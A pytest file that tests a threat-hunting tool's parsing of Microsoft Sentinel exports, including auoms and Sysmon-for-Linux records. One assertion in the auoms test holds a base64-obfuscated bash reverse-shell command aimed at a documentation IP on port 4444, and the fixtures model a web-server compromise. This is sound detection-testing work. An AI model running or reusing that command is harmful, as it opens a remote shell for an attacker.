"""Sentinel table exports: real files from msticpy and the Sentinel notebooks."""

from __future__ import annotations

import json
from pathlib import Path

from hunting.readers import read_file
from hunting.readers.base import ReadOptions
from hunting.readers.sentinel import SENTINEL_READER


def _read(path: Path):
    return read_file(path, ReadOptions())


def test_read_syslog_export_all_rows(shared_data: Path) -> None:
    result = _read(shared_data / "msticpy/syslog_data.csv")
    acc = result.account
    assert acc.format == "sentinel-export-csv:Syslog"
    assert (acc.lines, acc.parsed, acc.unparsed) == (100, 100, 0)
    df = result.tables["Syslog"]
    assert set(df["Computer"]) == {"squid-uk-02"}
    assert set(df["Facility"]) == {"authpriv"}
    # "7/8/2019 14:41" .. "7/8/2019 16:21" in the file (M/D/YYYY H:MM)
    assert df["TimeGenerated"].min().isoformat() == "2019-07-08T14:41:00+00:00"
    assert df["TimeGenerated"].max().isoformat() == "2019-07-08T16:21:00+00:00"


def test_read_alert_export_multiline_json_fields(shared_data: Path) -> None:
    result = _read(shared_data / "sentinel-notebooks/alertlist.csv")
    acc = result.account
    assert acc.format == "sentinel-export-csv:SecurityAlert"
    # 189 records in 14,822 physical lines (SOURCE.md)
    assert (acc.lines, acc.parsed, acc.unparsed) == (189, 189, 0)
    df = result.tables["SecurityAlert"]
    assert df["Severity"].value_counts().to_dict() == {
        "High": 102,
        "Medium": 56,
        "Low": 24,
        "Informational": 7,
    }
    assert df["TimeGenerated"].min().isoformat() == "2019-01-10T05:48:09+00:00"
    assert df["TimeGenerated"].max().isoformat() == "2019-01-15T22:46:37+00:00"
    # Entities survive as JSON text, and alerts without CompromisedEntity get the host entity
    assert all(json.loads(e) is not None for e in df["Entities"].dropna())
    assert (df["Computer"] == "MSTICALERTSWIN1").sum() >= 112


def test_read_heartbeat_export_keeps_version_text(shared_data: Path) -> None:
    df = _read(shared_data / "msticpy/host_hb.csv").tables["Heartbeat"]
    row = df.iloc[0]
    assert (row["Computer"], row["OSName"], row["OSMajorVersion"], row["OSMinorVersion"]) == (
        "squid-uk-02",
        "Ubuntu",
        "18",
        "04",
    )
    assert row["ComputerIP"] == "51.140.160.102"
    assert row["RemoteIPCountry"] == "United Kingdom"


def test_read_flows_export_public_ips_list(shared_data: Path) -> None:
    result = _read(shared_data / "msticpy/az_net_flows.csv")
    assert (result.account.lines, result.account.parsed) == (460, 460)
    df = result.tables["NetworkFlows"]
    assert (df["Computer"] == "msticalertswin1").sum() == 452
    assert "13.71.172.130,13.71.172.128" in set(df["PublicIPs"])


def test_read_export_bad_time_is_counted_not_dropped(tmp_path: Path) -> None:
    f = tmp_path / "export.csv"
    f.write_text(
        "TimeGenerated,Computer,Facility,SyslogMessage\n"
        "2024-01-01T00:00:00Z,h1,auth,ok\n"
        "not a time,h1,auth,bad\n"
        '2024-01-01T00:01:00Z,h1,auth,"short row"\n'
        "2024-01-01T00:02:00Z,h1\n"
    )
    acc = _read(f).account
    assert (acc.lines, acc.parsed, acc.unparsed) == (4, 2, 2)
    assert acc.reasons == {"bad TimeGenerated": 1, "expected 4 fields": 1}


def test_read_json_export_ndjson(tmp_path: Path) -> None:
    f = tmp_path / "alerts.json"
    rows = [
        {
            "TimeGenerated": "2024-01-01T00:00:00Z",
            "AlertName": "A",
            "CompromisedEntity": "web01",
            "Severity": "High",
        },
        {
            "TimeGenerated": "2024-01-01T01:00:00Z",
            "AlertName": "B",
            "Entities": [{"Type": "host", "HostName": "db01"}],
        },
    ]
    f.write_text("\n".join(json.dumps(r) for r in rows) + "\n{broken\n")
    result = _read(f)
    assert (result.account.lines, result.account.parsed, result.account.unparsed) == (3, 2, 1)
    assert result.tables["SecurityAlert"]["Computer"].tolist() == ["web01", "db01"]


def test_sniff_ignores_unrelated_csv() -> None:
    assert not SENTINEL_READER.sniff(["name,age", "bob,3"])
    assert SENTINEL_READER.sniff(["\ufeff,TenantId,TimeGenerated,Computer,SyslogMessage"])


# --- the three shapes Sentinel users export in: portal CSV, az CLI JSON, REST answer -------------
#
# No public portal/az/REST export of these tables was found, so each real export in
# ../shared/data is rewritten into the documented shape (only the framing and the time
# text change; every value is the real one) and must read exactly as the original does.

import csv as _csv  # noqa: E402

import pandas as pd  # noqa: E402
import pytest  # noqa: E402

from hunting.analysis.process_tree import build_tree, process_events  # noqa: E402
from hunting.readers.sentinel import parse_export_times  # noqa: E402
from hunting.readers.sysmon import file_creates  # noqa: E402

DATA = Path(__file__).resolve().parents[1] / "data"
REAL_EXPORTS = {
    "msticpy/syslog_data.csv": "Syslog",
    "msticpy/host_hb.csv": "Heartbeat",
    "msticpy/az_net_flows.csv": "NetworkFlows",
    "msticpy/linux_events.csv": "AuditEvents",
    "sentinel-notebooks/alertlist.csv": "SecurityAlert",
}


def _records(path: Path) -> tuple[list[str], list[list[str]]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(_csv.reader(f))
    header = rows[0]
    keep = [i for i, h in enumerate(header) if h and not h.startswith("Unnamed")]
    return [header[i] for i in keep], [[r[i] for i in keep] for r in rows[1:]]


def _portal_time(text: str) -> str:
    """The portal's en-US form, e.g. 7/28/2023, 8:07:14.552 PM (from the export's own value)."""
    t = pd.Timestamp(text, tz="UTC") if "T" not in text else pd.Timestamp(text).tz_convert("UTC")
    hour = t.hour % 12 or 12
    return f"{t.month}/{t.day}/{t.year}, {hour}:{t:%M:%S}.{t.microsecond // 1000:03d} {'PM' if t.hour >= 12 else 'AM'}"


def _iso(text: str) -> str:
    t = pd.Timestamp(text, tz="UTC") if "T" not in text else pd.Timestamp(text).tz_convert("UTC")
    return f"{t:%Y-%m-%dT%H:%M:%S}.{t.microsecond:06d}0Z"


def _write_shapes(src: Path, out: Path) -> dict[str, Path]:
    header, rows = _records(src)
    t = header.index("TimeGenerated")
    portal = out / "portal.csv"
    with portal.open("w", newline="", encoding="utf-8") as f:
        w = _csv.writer(f)
        w.writerow([h + " [UTC]" if h == "TimeGenerated" else h for h in header])
        w.writerows([[_portal_time(v) if i == t else v for i, v in enumerate(r)] for r in rows])
    az = out / "az.json"
    az.write_text(
        json.dumps(
            [
                {
                    "TableName": "PrimaryResult",
                    **{h: (_iso(v) if i == t else v) for i, (h, v) in enumerate(zip(header, r, strict=True))},
                }
                for r in rows
            ]
        )
    )
    rest = out / "rest.json"
    columns = [{"name": h, "type": "datetime" if i == t else "string"} for i, h in enumerate(header)]
    rest.write_text(
        json.dumps(
            {
                "tables": [
                    {
                        "name": "PrimaryResult",
                        "columns": columns,
                        "rows": [[_iso(v) if i == t else v for i, v in enumerate(r)] for r in rows],
                    }
                ]
            }
        )
    )
    return {"portal": portal, "az": az, "rest": rest}


@pytest.mark.parametrize("name", sorted(REAL_EXPORTS))
def test_every_table_reads_the_same_in_portal_az_and_rest_shapes(
    shared_data: Path, tmp_path: Path, name: str
) -> None:
    original = _read(shared_data / name)
    table = REAL_EXPORTS[name]
    ref = original.tables[table]
    for shape, path in _write_shapes(shared_data / name, tmp_path).items():
        got = _read(path)
        acc = got.account
        assert acc.format.endswith(f":{table}"), (shape, acc.format)
        # every record counted, none lost: the same totals as the original file
        assert (acc.lines, acc.parsed, acc.unparsed) == (
            original.account.lines,
            original.account.parsed,
            original.account.unparsed,
        ), shape
        # The portal shape writes M/D/YYYY: a file whose days are all <= 12 cannot say which
        # order it uses, and the reader must say so (checked from the reference times).
        days = ref["TimeGenerated"].dt.day
        ambiguous = shape == "portal" and bool(
            (days <= 12).all() and (days != ref["TimeGenerated"].dt.month).any()
        )
        expected = ["no date in the file decides day/month order: read as month/day"] if ambiguous else []
        assert (acc.error, acc.notes) == ("", expected), shape
        pd.testing.assert_frame_equal(got.tables[table], ref, check_exact=True, obj=f"{name} as {shape}")


def test_portal_locale_time_with_milliseconds_and_pm() -> None:
    times, note = parse_export_times(
        pd.Series(["7/28/2023, 8:07:14.552 PM", "7/28/2023, 12:00:01.000 AM", "7/28/2023, 12:30:00 PM"]),
        "UTC",
        "UTC",
    )
    assert [t.isoformat() for t in times] == [
        "2023-07-28T20:07:14.552000+00:00",
        "2023-07-28T00:00:01+00:00",
        "2023-07-28T12:30:00+00:00",
    ]
    assert note == ""  # 28 > 12 settles month/day order


def test_portal_day_first_column_decided_by_the_whole_file() -> None:
    # "03/08/2023" alone is ambiguous; "28/07/2023" in the same column makes it 3 August.
    result = _read(DATA / "sentinel-portal/syslog_day_first_utc.csv")
    acc = result.account
    assert (acc.lines, acc.parsed, acc.unparsed, acc.error, acc.notes) == (3, 3, 0, "", [])
    assert [t.isoformat() for t in result.tables["Syslog"]["TimeGenerated"]] == [
        "2023-07-28T20:07:14+00:00",
        "2023-08-03T09:15:00+00:00",
        "2023-08-03T21:40:59+00:00",
    ]


def test_portal_ambiguous_order_is_reported_not_silent() -> None:
    result = _read(DATA / "sentinel-portal/syslog_ambiguous_order.csv")
    acc = result.account
    assert (acc.lines, acc.parsed, acc.unparsed) == (3, 3, 0)
    assert acc.notes == ["no date in the file decides day/month order: read as month/day"]
    assert acc.error == ""  # an assumption said, not a broken file
    assert [t.isoformat() for t in result.tables["Syslog"]["TimeGenerated"]] == [
        "2023-03-08T09:15:00+00:00",
        "2023-04-08T12:05:10+00:00",
        "2023-04-08T00:30:00+00:00",
    ]


def test_portal_local_time_header_uses_the_reading_zone_and_says_so() -> None:
    path = DATA / "sentinel-portal/syslog_local_time.csv"
    result = read_file(path, ReadOptions(tz="Europe/Berlin"))
    assert result.account.notes == [
        "times marked [Local Time] were read in Europe/Berlin (set the time zone under Reading options)"
    ]
    # 22:07:14 in Berlin (CEST, UTC+2) on 28.07.2023
    assert result.tables["Syslog"]["TimeGenerated"].iloc[0].isoformat() == "2023-07-28T20:07:14+00:00"


def test_header_offset_zone_is_applied() -> None:
    times, note = parse_export_times(pd.Series(["2023-07-28 22:07:14"]), "UTC+02:00", "UTC")
    assert (times.iloc[0].isoformat(), note) == ("2023-07-28T20:07:14+00:00", "")


# --- Microsoft's Linux agents in Sentinel exports -----------------------------------------------


def test_auoms_in_syslog_portal_export_gives_processes_and_tree() -> None:
    path = DATA / "auoms/syslog_auoms_portal.csv"
    result = _read(path)
    acc = result.account
    # 8 rows (grep -c '^"' file); all are Syslog rows
    assert (acc.lines, acc.parsed, acc.unparsed) == (8, 8, 0)
    assert acc.rows == {"Syslog": 8, "AuditEvents": 6}
    # grep -c 'type=' file == 6 agent records; the 7th auoms message is a status line, said in the account
    assert acc.error == "" and acc.notes[0].startswith("1 auoms/sysmon message(s) not understood")
    ev = result.tables["AuditEvents"]
    assert ev["EventType"].value_counts().to_dict() == {
        "AUOMS_EXECVE": 4,
        "AUOMS_SYSCALL": 1,
        "USER_LOGIN": 1,
    }
    procs = process_events(ev)
    assert len(procs) == 4  # grep -c AUOMS_EXECVE
    bash = procs.loc[procs["Pid"] == 17790].iloc[0]
    assert (bash["Ppid"], bash["Cwd"], bash["User"], bash["Uid"], bash["LoginUser"]) == (
        1340,
        "/opt/tomcat",
        "tomcat",
        1001,
        "unset",
    )
    # the command line with its own unescaped quotes, whole
    assert bash["Cmdline"] == (
        'bash -c "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNy80NDQ0IDA+JjE=}|{base64,-d}|{bash,-i}"'
    )
    tree = build_tree(procs)
    whoami = tree.loc[tree["Name"] == "whoami"].iloc[0]
    assert whoami["Path"] == "[pid 1] > java > bash > bash > whoami"
    assert whoami["Depth"] == 4
    # agent metadata stays out of the process fields (auoms_version=2.5.2.0 is not an address)
    fields = ev.drop(columns=["RawMessage"]).astype("string").fillna("")
    assert not fields.apply(lambda c: c.str.contains("2.5.2.0", regex=False)).any().any()
    login = ev.loc[ev["EventType"] == "USER_LOGIN"].iloc[0]
    assert (login["Addr"], login["Res"], login["Auid"], login["Ses"], login["Exe"]) == (
        "198.51.100.23",
        "success",
        1000,
        7,
        "/usr/sbin/sshd",
    )
    assert login["TimeGenerated"].isoformat() == "2023-07-28T20:09:02.112000+00:00"


def test_auoms_in_custom_audit_table_az_json() -> None:
    result = _read(DATA / "auoms/auoms_custom_table_az.json")
    acc = result.account
    # 7 objects (grep -c '"RawData"'), one cut short: counted, with its reason
    assert acc.format == "sentinel-export-json:AuditEvents"
    assert (acc.lines, acc.parsed, acc.unparsed) == (7, 6, 1)
    assert acc.reasons == {"not an AUOMS record": 1}
    procs = process_events(result.tables["AuditEvents"])
    assert sorted(zip(procs["Pid"], procs["Ppid"], strict=True)) == [
        (1340, 1),
        (17790, 1340),
        (17793, 17790),
        (17801, 17793),
    ]


def test_sysmon_for_linux_in_syslog() -> None:
    result = _read(DATA / "sysmon-linux/syslog_sysmon_az.json")
    acc = result.account
    assert (acc.lines, acc.parsed, acc.unparsed) == (7, 7, 0)
    # grep -o '<EventID>[0-9]*' file | sort | uniq -c: 1 x4 (one cut short), 3 x1, 5 x1, 11 x1
    assert acc.rows == {"Syslog": 7, "AuditEvents": 3, "NetworkFlows": 1}
    assert acc.error == "" and acc.notes[0].startswith("1 auoms/sysmon message(s) not understood")
    procs = process_events(result.tables["AuditEvents"])
    assert sorted(zip(procs["Pid"], procs["Ppid"], strict=True)) == [(4410, 900), (4411, 4410), (4420, 900)]
    curl = procs.loc[procs["Pid"] == 4411].iloc[0]
    assert (curl["Exe"], curl["User"], curl["Cwd"]) == ("/usr/bin/curl", "www-data", "/var/www")
    # Sentinel's "&gt" without ';' repaired
    assert procs.loc[procs["Pid"] == 4420, "Cmdline"].iloc[0] == "bash -c echo ok > /tmp/.x/log"
    flow = result.tables["NetworkFlows"].iloc[0]
    assert (flow["SrcIP"], flow["DestIP"], flow["DestPort"], flow["L4Protocol"], flow["FlowDirection"]) == (
        "10.1.0.5",
        "203.0.113.7",
        80,
        "T",
        "O",
    )
    files = file_creates(result.tables["Syslog"])
    assert files["TargetFilename"].tolist() == ["/tmp/.x/payload"]


def test_vmconnection_rest_answer_gives_flows() -> None:
    result = _read(DATA / "vmconnection/vmconnection_rest.json")
    acc = result.account
    assert acc.format == "sentinel-export-json:NetworkFlows"
    assert (acc.lines, acc.parsed, acc.unparsed) == (5, 5, 0)
    df = result.tables["NetworkFlows"]
    assert df["FlowDirection"].tolist() == ["O", "O", "I", "O", "I"]
    assert df["DestPort"].tolist() == [80, 4444, 22, 53, 443]
    assert (
        df["AllowedInFlows"].sum() == 8
        and df["AllowedOutFlows"].sum() == 2
        and df["DeniedOutFlows"].sum() == 2
    )
    # only a globally routable remote end is a public IP (203.0.113.0/24 is documentation space)
    assert df["PublicIPs"].dropna().tolist() == ["168.63.129.16"]
    assert set(df["FlowType"]) == {"VMConnection"}


def test_rest_answer_with_bad_table_shape_is_counted(tmp_path: Path) -> None:
    f = tmp_path / "rest.json"
    f.write_text(
        json.dumps(
            {
                "tables": [
                    {
                        "name": "PrimaryResult",
                        "columns": [
                            {"name": "TimeGenerated", "type": "datetime"},
                            {"name": "Computer", "type": "string"},
                            {"name": "SyslogMessage", "type": "string"},
                        ],
                        "rows": [["2024-01-01T00:00:00Z", "h1", "ok"], ["not a time", "h1", "x"]],
                    }
                ]
            }
        )
    )
    acc = _read(f).account
    assert (acc.lines, acc.parsed, acc.unparsed) == (2, 1, 1)
    assert acc.reasons == {"bad TimeGenerated": 1}
